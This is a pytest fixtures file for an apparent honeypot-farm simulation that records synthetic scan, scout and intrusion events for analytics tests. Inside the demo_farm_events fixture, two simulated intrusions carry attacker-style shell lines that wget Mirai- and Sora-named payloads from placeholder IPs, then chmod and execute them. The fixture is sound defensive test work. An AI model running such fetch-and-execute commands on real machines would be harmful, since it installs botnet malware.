"""Shared fixtures.

The generated dataset is expensive, so integration-flavoured tests share
one small session-scoped trace (~20k sessions, reduced hash budget), and
event-stream consumers (farm health, streaming analytics) share one
recorded live-farm run — cached once per session, handed out as fresh
copies where consumers could mutate.
"""

from __future__ import annotations

import pytest

import repro
from repro.workload import ScenarioConfig


@pytest.fixture(scope="session")
def small_config() -> ScenarioConfig:
    return ScenarioConfig(scale=1 / 20000, seed=99, hash_scale=0.008)


@pytest.fixture(scope="session")
def small_dataset(small_config):
    return repro.generate(small_config)


@pytest.fixture(scope="session")
def small_store(small_dataset):
    return small_dataset.store


@pytest.fixture(scope="session")
def demo_farm_events():
    """One deterministic LiveFarm run, recorded as HoneypotEvent objects.

    12 scans, 4 scouts and 2 intrusions whose ``wget`` lines drop file
    hashes — every event-consumer code path (auth, commands, downloads,
    close) appears in the stream.  Treat as read-only (session-scoped).
    """
    from repro.farm.live import (
        IntrusionBehavior,
        LiveFarm,
        ScanBehavior,
        ScoutBehavior,
    )
    from repro.obs import use_metrics

    events = []
    with use_metrics():
        farm = LiveFarm(seed=11, n_honeypots=3, event_tap=events.append)
        for i in range(12):
            farm.launch(0x0A000000 + i, i % 3, ScanBehavior(),
                        at=5.0 + 20.0 * i)
        for j in range(4):
            farm.launch(0x0B000000 + j, j % 3, ScoutBehavior(),
                        at=50.0 + 60.0 * j)
        farm.launch(0x0C000001, 0, IntrusionBehavior(lines=(
            "wget http://203.0.113.9/bins/mirai.arm7",
            "chmod +x mirai.arm7",
            "./mirai.arm7",
        )), at=120.0)
        farm.launch(0x0C000002, 1, IntrusionBehavior(lines=(
            "wget http://198.51.100.7/payload/sora.sh",
            "sh sora.sh",
        )), at=260.0)
        farm.run()
        farm.harvest(3600.0)
    return tuple(events)


@pytest.fixture()
def recorded_trace(demo_farm_events):
    """The same demo run as flight-recorder event dicts (fresh copies)."""
    return [
        {"seq": i, "wall": 0.0, "kind": event.event_type.value,
         "trace_id": f"session:{event.session_id}", "ts": event.timestamp,
         "data": {"sensor": event.honeypot_id, "session": event.session_id,
                  **event.data}}
        for i, event in enumerate(demo_farm_events)
    ]
